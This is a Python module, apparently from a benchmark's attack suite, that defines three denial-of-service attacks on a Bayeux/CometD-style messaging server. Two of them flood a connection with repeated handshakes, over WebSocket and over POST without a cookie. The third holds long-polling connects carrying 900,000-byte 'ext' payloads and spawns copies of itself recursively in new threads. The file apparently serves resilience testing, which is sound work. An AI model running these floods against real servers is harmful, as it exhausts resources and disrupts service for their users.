"""Sessions: as many as can be made, and what each can be made to keep."""

from __future__ import annotations

import socket
import threading
from contextlib import suppress
from typing import Final

from bench.attacks.attack import TEXT, Aim, Attack, flood, frame

_HANDSHAKE: Final = b'[{"channel":"/meta/handshake","version":"1.0","id":"1"}]'
_BLAST: Final = 1024 * 1024  # bytes that are sent in one call
_EXT: Final = 900_000  # bytes of the `ext` of one held connect


def _handshakes_on_sockets(aim: Aim) -> None:
    """Handshake again and again on one WebSocket."""
    unit = frame(TEXT, _HANDSHAKE)
    flood(aim.upgrade(), unit * (_BLAST // len(unit)))


def _handshakes_by_polling(aim: Aim) -> None:
    """Handshake again and again without a cookie, on one connection that is kept alive."""
    request = aim.head(len(_HANDSHAKE)) + _HANDSHAKE
    flood(aim.connect(), request * (_BLAST // len(request)))


def _held_ext(aim: Aim) -> None:
    """Have a connect held that brings an `ext` of very many fields; then do it again, beside the first."""
    ext = b",".join(b'"%d":0' % number for number in range(_EXT // 10))
    with suppress(OSError), aim.connect() as connection:
        client = _ask(connection, aim, _HANDSHAKE).partition(b'"clientId":"')[2][:32]
        assert len(client) == 32, "the server refuses handshakes"
        connect = b'[{"channel":"/meta/connect","connectionType":"long-polling","clientId":"%b"}]' % client
        _ask(connection, aim, connect)
        held = connect.replace(b"}]", b',"ext":{%b}}]' % ext)
        connection.sendall(aim.head(len(held)) + held)
        threading.Thread(target=_held_ext, args=(aim,), daemon=True).start()
        connection.settimeout(60)
        connection.recv(1)


def _ask(connection: socket.socket, aim: Aim, body: bytes) -> bytes:
    connection.sendall(aim.head(len(body)) + body)
    return connection.recv(1 << 16)


SESSIONS: Final = (
    Attack("sockets", "handshakes one after the other on WebSockets", _handshakes_on_sockets),
    Attack("handshakes", "handshakes one after the other by POST, without a cookie", _handshakes_by_polling),
    Attack("held-ext", "held connects, each with 900,000 bytes of ext in 90,000 fields", _held_ext),
)
